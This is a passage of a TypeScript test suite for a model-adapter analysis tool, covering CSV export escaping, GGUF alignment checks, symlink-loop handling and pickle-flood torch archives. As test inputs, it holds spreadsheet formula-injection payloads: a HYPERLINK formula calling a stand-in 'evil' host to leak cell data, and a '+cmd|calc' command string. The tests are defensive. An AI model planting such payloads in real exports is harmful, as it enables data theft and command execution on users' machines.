  const names = ['=HYPERLINK("http://evil/"&A1)', '+cmd|calc', '-2+3', '@SUM(A1:A9)', 'ok.q_proj'];
  const ts = names.flatMap((n) => [
    { name: `base_model.model.${n}.lora_A.weight`, dtype: 'F32' as const, shape: [2, 4], data: f32(r.normals(8)) },
    { name: `base_model.model.${n}.lora_B.weight`, dtype: 'F32' as const, shape: [4, 2], data: f32(r.normals(8)) },
  ]);
  const d = peftFolder(safetensorsRaw(ts), JSON.stringify({ peft_type: 'LORA', r: 2, lora_alpha: -4 }));
  const a = openAdapter(d);
  try {
    const csv = reportToCsv(await analyzeAdapter(a, { engine }));
    const rows = csv.trim().split('\n').slice(1);
    assert.equal(rows.length, names.length);
    // Split on commas outside quotes; every cell starting with = + - @ must be a plain number.
    const cells = (row: string): string[] => row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')).filter((_c, i, a) => i < a.length - 1 || a[i] !== '');
    for (const row of rows) {
      for (const c of cells(row)) {
        const v = c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c;
        if (/^[=+\-@]/.test(v)) assert.ok(Number.isFinite(Number(v)), `a formula cell ${JSON.stringify(v)} in ${row}`);
      }
    }
    assert.ok(rows.some((x) => x.startsWith(`"'=HYPERLINK(""http://evil/""&A1)"`)), rows.join('\n'));
    assert.ok(rows.some((x) => x.startsWith("'-2+3,")));
    // negative numbers stay numbers: scale = -4/2 = -2
    assert.ok(rows.every((x) => x.split(',').includes('-2')), 'the numeric scale -2 is kept as a number');
  } finally { a.store.close(); }
});

test('class GGUF general.alignment: 0.5, 64.5, 0, 48, 2^31 are refused naming the file; powers of two open', () => {
  for (const [type, value, ok] of [['f32', 0.5, false], ['f32', 64.5, false], ['u32', 0, false], ['u32', 48, false], ['u32', 2 ** 31, false], ['u32', 64, true], ['u32', 1, true]] as const) {
    const d = caseDir();
    const g = writeGguf([{ key: 'general.alignment', type, value }], [{ name: 't', ne: [4], type: 0, data: f32([1, 2, 3, 4]) }], ok ? value : 32);
    const f = put(d, 'x.gguf', g.bytes);
    if (ok) GgufStore.openFile(f).close();
    else rejects(() => GgufStore.openFile(f), f, /general\.alignment is .*positive integer power of two/);
  }
});

test('class symlink loops: reported as loops (not as missing files) for weights, config, folders, indexes and shards', () => {
  const r = new Prng(9019);
  const st = encodeSafetensors(peftTensors(r));
  {
    const d = caseDir(); put(d, 'adapter_config.json', CFG); symlinkLoop(d, 'adapter_model.safetensors');
    rejects(() => openAdapter(d), path.join(d, 'adapter_model.safetensors'), /symbolic link loop/);
  }
  {
    const d = caseDir(); put(d, 'adapter_model.safetensors', st); symlinkLoop(d, 'adapter_config.json');
    rejects(() => openAdapter(d), path.join(d, 'adapter_config.json'), /symbolic link loop/);
  }
  {
    const d = caseDir(); const f = path.join(d, 'self.safetensors'); fs.symlinkSync('self.safetensors', f);
    rejects(() => openAdapter(f), f, /symbolic link loop/);
    rejects(() => SafetensorsStore.openFile(f), f, /symbolic link loop/);
  }
  {
    const d = caseDir(); const f = symlinkLoop(d, 'adapter'); rejects(() => openAdapter(f), f, /symbolic link loop/);
  }
  {
    const d = caseDir(); symlinkLoop(d, 's.safetensors');
    const idx = put(d, 'm.safetensors.index.json', '{"weight_map":{"t":"s.safetensors"}}');
    rejects(() => SafetensorsStore.openIndex(idx), path.join(d, 's.safetensors'), /symbolic link loop/);
  }
  {
    const d = caseDir(); const f = path.join(d, 'gone.safetensors'); fs.symlinkSync('/nonexistent/x', f);
    rejects(() => openAdapter(f), f, /dangling link/);
  }
});

test('hostile torch zips with floods open or fail cleanly through the zip reader', () => {
  // the same generator inside a real torch zip container (fuzzlib makeZip), as the campaign does
  const pkl = pickleFlood(0x7d, 2_000_000);
  const d = caseDir();
  const f = put(d, 'ckpt.pt', makeZip([{ name: 'archive/data.pkl', data: pkl }, { name: 'archive/version', data: new TextEncoder().encode('3\n') }]));
  rejects(() => openAdapter(f), f, /MiB of objects|no LoRA|pickle/, 5000);
});
